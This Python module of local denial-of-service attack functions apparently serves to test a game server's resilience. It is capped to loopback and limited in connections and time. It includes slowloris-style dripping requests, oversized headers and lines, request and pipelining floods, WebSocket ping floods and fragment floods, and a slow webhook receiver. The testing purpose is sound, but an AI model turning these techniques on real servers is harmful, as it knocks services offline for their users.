"""What somebody may do to a server who wants to stop it for others. Only to this machine, and only so much and so long.

Each attack is a function that ends by itself and tells what became of it. `source` is the address of the loopback from
which it comes (127.0.0.2 is somebody else than 127.0.0.1), so that an attacker and an honest player can be told apart.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import os
import socket
import struct
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field

HOST = "127.0.0.1"
MOST = 5_000  # connections of one attack
LONGEST = 120.0  # seconds

Reader, Writer = asyncio.StreamReader, asyncio.StreamWriter


@dataclass
class Outcome:
    """What an attacker saw."""

    opened: int = 0  # connections that came about
    sent: int = 0  # bytes
    answers: Counter[int] = field(default_factory=Counter)  # by their status, or a socket's code
    words: list[str] = field(default_factory=list)  # the first answers
    ended: int = 0  # connections that the server closed

    def note(self, answer: bytes) -> None:
        """Keep what the server said."""
        status = answer[9:12]
        if status.isdigit():
            self.answers[int(status)] += 1
            if len(self.words) < 5:
                self.words.append(answer.partition(b"\r\n\r\n")[2].decode(errors="replace"))


async def opened(port: int, source: str = HOST) -> tuple[Reader, Writer]:
    """A connection."""
    return await asyncio.open_connection(HOST, port, local_addr=(source, 0))


async def hung_up(writer: Writer) -> None:
    """Hang up, whatever state the connection is in."""
    writer.transport.abort()
    with contextlib.suppress(OSError):
        await writer.wait_closed()


async def many(count: int, seconds: float, one: Callable[[Outcome, float], Awaitable[None]]) -> Outcome:
    """The same thing many times at once, for so long."""
    outcome, end = Outcome(), time.monotonic() + min(seconds, LONGEST)

    async def safe() -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError, EOFError):
            await one(outcome, end)

    await asyncio.gather(*(safe() for _ in range(min(count, MOST))))
    return outcome


async def _drip(outcome: Outcome, end: float, port: int, source: str, begin: bytes, drop: bytes, pause: float) -> None:
    """Begin a request and never come to its end; when the server hangs up, begin again."""
    while time.monotonic() < end:
        reader, writer = await opened(port, source)
        outcome.opened += 1
        try:
            writer.write(begin)
            outcome.sent += len(begin)
            while time.monotonic() < end:
                with contextlib.suppress(TimeoutError):
                    answer = await asyncio.wait_for(reader.read(4096), min(pause, max(0.01, end - time.monotonic())))
                    outcome.note(answer)
                    break
                writer.write(drop)
                outcome.sent += len(drop)
        except OSError:
            pass
        finally:
            outcome.ended += time.monotonic() < end
            await hung_up(writer)
        await asyncio.sleep(0.2)


# -- requests that do not end --------------------------------------------------------------------------------


async def half_requests(port: int, count: int, seconds: float, source: str = HOST, pause: float = 2.0) -> Outcome:
    """Requests whose heads never end: a line now and then."""
    begin = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: b\r\n"
    return await many(count, seconds, lambda seen, end: _drip(seen, end, port, source, begin, b"X-A: b\r\n", pause))


async def half_bodies(port: int, count: int, seconds: float, source: str = HOST, pause: float = 2.0) -> Outcome:
    """Requests whose bodies never end: a byte now and then."""
    begin = b"POST /api/games HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n{"
    return await many(count, seconds, lambda seen, end: _drip(seen, end, port, source, begin, b" ", pause))


async def silent_connections(port: int, count: int, seconds: float, source: str = HOST) -> Outcome:
    """Connections that say nothing at all."""
    return await many(count, seconds, lambda seen, end: _drip(seen, end, port, source, b"", b"", 1.0))


async def blank_lines(port: int, count: int, seconds: float, source: str = HOST, pause: float = 0.5) -> Outcome:
    """Empty lines before a request that never begins."""
    return await many(count, seconds, lambda seen, end: _drip(seen, end, port, source, b"\r\n", b"\r\n", pause))


# -- requests that are too big -------------------------------------------------------------------------------


async def _pour(port: int, begin: bytes, piece: bytes, megabytes: float, seconds: float, source: str) -> Outcome:
    """Send so much, and hear what is said."""
    outcome = Outcome()
    reader, writer = await opened(port, source)
    outcome.opened = 1
    answer = bytearray()

    async def listen() -> None:
        with contextlib.suppress(OSError):
            while heard := await reader.read(65536):
                if len(answer) < 65536:
                    answer.extend(heard)

    listener = asyncio.create_task(listen())
    piece *= max(1, 65536 // len(piece))
    try:
        async with asyncio.timeout(min(seconds, LONGEST)):
            writer.write(begin)
            while outcome.sent < megabytes * 1_000_000 and not listener.done():
                writer.write(piece)
                outcome.sent += len(piece)
                await writer.drain()
            await asyncio.wait_for(listener, 5)
    except (OSError, TimeoutError):
        pass
    outcome.ended = int(listener.done())
    listener.cancel()
    await asyncio.gather(listener, return_exceptions=True)
    outcome.note(bytes(answer))
    await hung_up(writer)
    return outcome


async def many_headers(port: int, megabytes: float = 150, seconds: float = 20, source: str = HOST) -> Outcome:
    """One request with millions of small headers."""
    return await _pour(port, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"a: b\r\n", megabytes, seconds, source)


async def one_long_header(port: int, megabytes: float = 150, seconds: float = 20, source: str = HOST) -> Outcome:
    """One header without an end."""
    return await _pour(port, b"GET / HTTP/1.1\r\nHost: localhost\r\na: ", b"b", megabytes, seconds, source)


async def one_long_line(port: int, megabytes: float = 150, seconds: float = 20, source: str = HOST) -> Outcome:
    """One address without an end."""
    return await _pour(port, b"GET /", b"a", megabytes, seconds, source)


async def one_long_trailer(port: int, megabytes: float = 150, seconds: float = 20, source: str = HOST) -> Outcome:
    """A header without an end that follows a body."""
    begin = b"POST /api/login HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\na: "
    return await _pour(port, begin, b"b", megabytes, seconds, source)


async def tiny_chunks(port: int, megabytes: float = 20, seconds: float = 20, source: str = HOST) -> Outcome:
    """A body in chunks of one byte."""
    begin = b"POST /api/records HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    return await _pour(port, begin, b"1\r\na\r\n", megabytes, seconds, source)


async def pipelined(port: int, megabytes: float = 20, seconds: float = 20, source: str = HOST) -> Outcome:
    """Thousands of requests in one breath."""
    return await _pour(port, b"", b"GET /api/catalog HTTP/1.1\r\nHost: localhost\r\n\r\n", megabytes, seconds, source)


async def deaf(port: int, path: str, count: int, seconds: float, source: str = HOST) -> Outcome:
    """Ask for something big and never take it."""

    async def one(outcome: Outcome, end: float) -> None:
        with socket.socket() as line:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            line.setblocking(False)
            line.bind((source, 0))
            loop = asyncio.get_running_loop()
            await loop.sock_connect(line, (HOST, port))
            outcome.opened += 1
            request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 4
            await loop.sock_sendall(line, request)
            outcome.sent += len(request)
            await asyncio.sleep(max(0.0, end - time.monotonic()))

    return await many(count, seconds, one)


async def request_flood(port: int, path: str, count: int, seconds: float, source: str = HOST) -> Outcome:
    """Whole requests, as fast as they are answered."""
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n".encode()

    async def one(outcome: Outcome, end: float) -> None:
        while time.monotonic() < end:
            reader, writer = await opened(port, source)
            outcome.opened += 1
            with contextlib.suppress(OSError, TimeoutError):
                writer.write(request)
                outcome.sent += len(request)
                outcome.note(await asyncio.wait_for(reader.read(), max(0.01, end - time.monotonic())))
            await hung_up(writer)

    return await many(count, seconds, one)


async def coming_and_going(port: int, seconds: float, at_once: int = 20, source: str = HOST) -> Outcome:
    """Connections that end as soon as they have begun."""

    async def one(outcome: Outcome, end: float) -> None:
        while time.monotonic() < end and outcome.opened < 100_000:
            _, writer = await opened(port, source)
            outcome.opened += 1
            writer.transport.abort()

    return await many(at_once, seconds, one)


# -- sockets that speak --------------------------------------------------------------------------------------


def frame(code: int, data: bytes = b"", last: bool = True) -> bytes:
    """A frame as browsers send it, short and masked."""
    mask = os.urandom(4)
    masked = bytes(byte ^ mask[place % 4] for place, byte in enumerate(data))
    return struct.pack("!BB", (0x80 if last else 0) | code, 0x80 | len(data)) + mask + masked


TEXT, MORE, BINARY, PING, PONG = 1, 0, 2, 9, 10


async def _socket(port: int, path: str, cookie: str, source: str) -> tuple[Reader, Writer]:
    """A socket that has come about; EOFError if none has."""
    reader, writer = await opened(port, source)
    key = base64.b64encode(os.urandom(16)).decode()
    head = f"GET {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    head += f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n" + (f"Cookie: {cookie}\r\n" if cookie else "")
    writer.write(head.encode() + b"\r\n")
    if not (await reader.readuntil(b"\r\n\r\n")).startswith(b"HTTP/1.1 101"):
        await hung_up(writer)
        raise EOFError
    return reader, writer


async def _chatter(
    port: int, path: str, cookie: str, frames: bytes, seconds: float, count: int, source: str, most: int = 64_000_000
) -> Outcome:
    """Sockets that send the same frames again and again; a new one for each that is closed."""

    async def one(outcome: Outcome, end: float) -> None:
        while time.monotonic() < end:
            reader, writer = await _socket(port, path, cookie, source)
            outcome.opened += 1
            listener = asyncio.create_task(_last_words(reader, outcome))
            try:
                while time.monotonic() < end and outcome.sent < most and not listener.done():
                    writer.write(frames)
                    outcome.sent += len(frames)
                    async with asyncio.timeout(max(0.01, end - time.monotonic())):
                        await writer.drain()
                    await asyncio.sleep(0)
            except (OSError, TimeoutError):
                pass
            with contextlib.suppress(TimeoutError):
                outcome.ended += await asyncio.wait_for(listener, 3)
            await hung_up(writer)
            await asyncio.sleep(0.05)

    return await many(count, seconds, one)


async def _last_words(reader: Reader, outcome: Outcome) -> bool:
    """Hear a socket to its end, and note with which code it is closed."""
    try:
        while True:
            first, size = await reader.readexactly(2)
            if size == 126:
                size = int.from_bytes(await reader.readexactly(2))
            elif size == 127:
                size = int.from_bytes(await reader.readexactly(8))
            data = await reader.readexactly(size)
            if first & 15 == 8:
                outcome.answers[int.from_bytes(data[:2])] += 1
                outcome.words = [*outcome.words, data[2:].decode()][:5]
                return True
    except (OSError, asyncio.IncompleteReadError):
        return True


async def ping_flood(
    port: int, path: str, seconds: float, cookie: str = "", count: int = 1, source: str = HOST
) -> Outcome:
    """Sockets that ping without end."""
    return await _chatter(port, path, cookie, frame(PING, b"?") * 5_000, seconds, count, source)


async def tiny_fragments(
    port: int, path: str, seconds: float, cookie: str = "", count: int = 1, source: str = HOST
) -> Outcome:
    """Messages of which each frame brings one byte, and which never end."""
    piece = frame(MORE, b"a", last=False) * 5_000
    return await _chatter(port, path, cookie, frame(TEXT, b"a", last=False) + piece, seconds, count, source)


async def talkative(
    port: int, path: str, seconds: float, cookie: str = "", count: int = 1, source: str = HOST
) -> Outcome:
    """Sockets that say much to which nobody listens."""
    return await _chatter(port, path, cookie, frame(TEXT, b"a" * 100) * 500, seconds, count, source)


# -- web hooks that hold us up -------------------------------------------------------------------------------


@contextlib.asynccontextmanager
async def dripping_hook(pause: float = 3.0, head: bool = False) -> AsyncIterator[tuple[int, Outcome]]:
    """Somewhere to send web hooks, where the answer's body (or already its head) comes a byte at a time."""
    outcome = Outcome()
    held: set[Writer] = set()

    async def answer(reader: Reader, writer: Writer) -> None:
        outcome.opened += 1
        held.add(writer)
        try:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await reader.readuntil(b"\r\n\r\n")
                text = b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"a" * 100_000
                if not head:
                    writer.write(text[:42])
                    text = text[42:]
                for place in range(len(text)):
                    writer.write(text[place : place + 1])
                    await writer.drain()
                    outcome.sent += 1
                    await asyncio.sleep(pause)
            outcome.ended += 1
        finally:
            writer.transport.abort()

    server = await asyncio.start_server(answer, HOST, 0)
    try:
        yield server.sockets[0].getsockname()[1], outcome
    finally:
        server.close()
        for writer in held:
            writer.transport.abort()
